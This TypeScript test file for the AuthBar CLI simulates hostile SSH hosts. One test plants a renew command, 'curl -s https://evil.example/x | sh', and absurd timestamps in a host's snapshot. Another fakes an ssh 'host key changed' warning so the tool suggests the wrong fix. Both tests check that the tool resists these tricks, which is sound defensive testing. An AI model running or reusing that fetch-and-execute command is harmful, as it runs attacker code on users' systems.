/**
 * A hostile host's snapshot, through the real executable and a real OpenSSH server: JSON that
 * passes the schema but carries a renew command of the host's choosing and times no Date can
 * hold (`1e300`). `status --host` must still print the host's table, tell the user to renew
 * from here (never the host's command), and `watch --all-hosts` must still print its events.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { AUTHBAR_BIN, DAY, makeHome, ROOT, secret } from '../support/home.js';
import { runCli } from '../support/cli.js';
import { RAW_CONTROL } from '../support/outputs.js';
import { sshdMissing, startSshd } from '../support/sshd.js';

const skip = sshdMissing() ?? false;
const EVIL = 'curl -s https://evil.example/x | sh';

interface Profile {
  profileId: string;
  disabledUntil: number | null;
  token: Record<string, unknown> | null;
}

async function watchText(env: Record<string, string>, until: RegExp): Promise<string> {
  const child = spawn(process.execPath, [AUTHBAR_BIN, 'watch', '--all-hosts', '--no-notify'], {
    env,
    cwd: ROOT,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let out = '';
  child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
  child.stderr.setEncoding('utf8').on('data', (d: string) => (out += d));
  const deadline = Date.now() + 30_000;
  while (!until.test(out) && Date.now() < deadline && child.exitCode === null)
    await new Promise((r) => setTimeout(r, 100));
  const closed = new Promise((r) => child.on('close', r));
  child.kill('SIGTERM');
  await closed;
  return out;
}

test('a hostile snapshot: renew from here, absurd times said in words, nothing thrown', { skip }, async (t) => {
  const sshd = await startSshd();
  const local = makeHome('authbar-local-');
  t.after(async () => {
    await sshd.close();
    local.cleanup();
  });
  const r = sshd.remote;
  mkdirSync(r.state, { recursive: true, mode: 0o700 });
  r.write(r.agentStore(), {
    version: 1,
    profiles: {
      'anthropic:default': {
        type: 'token',
        provider: 'anthropic',
        token: secret('setup'),
        expires: Date.now() + 3 * DAY,
      },
    },
  });
  // The host's own AuthBar writes a real snapshot; the hostile one then bends it.
  const real = await runCli(['status', '--json', '--no-sync'], r.env);
  const snap = JSON.parse(real.stdout) as { agents: { profiles: Profile[] }[] };
  const p = snap.agents[0]?.profiles[0];
  assert.ok(p?.token, 'a setup token with its age');
  p.token['renewCommand'] = EVIL;
  p.token['expiresAt'] = 1e300;
  p.disabledUntil = 1e300;
  writeFileSync(join(r.home, 'status.json'), JSON.stringify(snap));
  const hello = await runCli(['--version'], r.env);
  const version = /\d+\.\d+\.\d+\S*/.exec(hello.stdout)?.[0] ?? '0.0.0';
  const lines = [
    { type: 'hello', at: Date.now(), authbar: version, protocol: 1 },
    { type: 'snapshot', at: 1e300, trigger: 'file', paths: [], wrote: [], snapshot: snap },
  ];
  writeFileSync(join(r.home, 'watch.ndjson'), lines.map((l) => JSON.stringify(l)).join('\n') + '\n');
  writeFileSync(
    join(sshd.remoteBin, 'authbar-hostile'),
    '#!/bin/sh\ncase "$1" in\n--version) exec authbar --version ;;\nstatus) cat "$HOME/status.json" ;;\nwatch) cat "$HOME/watch.ndjson"; exec cat >/dev/null ;;\nesac\n',
    { mode: 0o755 },
  );
  mkdirSync(local.state, { recursive: true, mode: 0o700 });
  const env = sshd.clientEnv(local.env);
  const add = await runCli(['hosts', 'add', 'evil', 'vps', '--authbar', 'authbar-hostile'], env);
  assert.equal(add.code, 0, add.stderr);

  const st = await runCli(['status', '--host', 'evil', '--no-sync'], env);
  assert.equal(st.code, 0, st.stderr);
  assert.match(st.stdout, /Setup tokens/);
  assert.match(st.stdout, /renew with `authbar setup-token --host evil --profile-id anthropic:default`\n/);
  assert.ok(!(st.stdout + st.stderr).includes('evil.example'), "the host's command is not given to run");
  assert.doesNotMatch(st.stdout + st.stderr, RAW_CONTROL);

  const out = await watchText(env, /\[evil\] .* snapshot /);
  assert.match(out, /\[evil\] the far future snapshot /, "the host's snapshot event is printed, its time in words");
  assert.ok(!out.includes('evil.example'));
});

test(
  'a host that prints a fake "host key changed" cannot make the fix remove another host\'s key',
  { skip },
  async (t) => {
    const sshd = await startSshd();
    const local = makeHome('authbar-local-');
    t.after(async () => {
      await sshd.close();
      local.cleanup();
    });
    // What ssh prints for a changed key, but from the remote command, which then exits 255 as ssh would.
    const banner = [
      '@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@',
      '@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @',
      'Host key for github.com has changed and you have requested strict checking.',
      'Host key verification failed.',
    ];
    writeFileSync(
      join(sshd.remoteBin, 'authbar-liar'),
      `#!/bin/sh\nprintf '%s\\n' ${banner.map((l) => `'${l}'`).join(' ')} >&2\nexit 255\n`,
      { mode: 0o755 },
    );
    mkdirSync(local.state, { recursive: true, mode: 0o700 });
    const env = sshd.clientEnv(local.env);
    assert.equal((await runCli(['hosts', 'add', 'liar', 'vps', '--authbar', 'authbar-liar'], env)).code, 0);
    const st = await runCli(['status', '--host', 'liar', '--no-sync', '--json'], env);
    const rep = JSON.parse(st.stdout) as { state: string; message: string | null; fix: string | null };
    assert.notEqual(rep.state, 'ok');
    assert.ok(!`${rep.message} ${rep.fix}`.includes('github.com'), `${rep.message}\n${rep.fix}`);
    // Where a host-key fix is given, it names the entry ssh keeps for this very host.
    if (rep.state === 'host-key')
      assert.match(rep.fix ?? '', new RegExp(`ssh-keygen -R '?\\[127\\.0\\.0\\.1\\]:${sshd.port}'?`));

    const out = await watchText(env, /liar.*host-key|host-key.*liar/);
    const line = out.split('\n').find((l) => l.startsWith('[liar]') && l.includes('host-key')) ?? '';
    assert.ok(!line.includes('github.com'), line);
  },
);
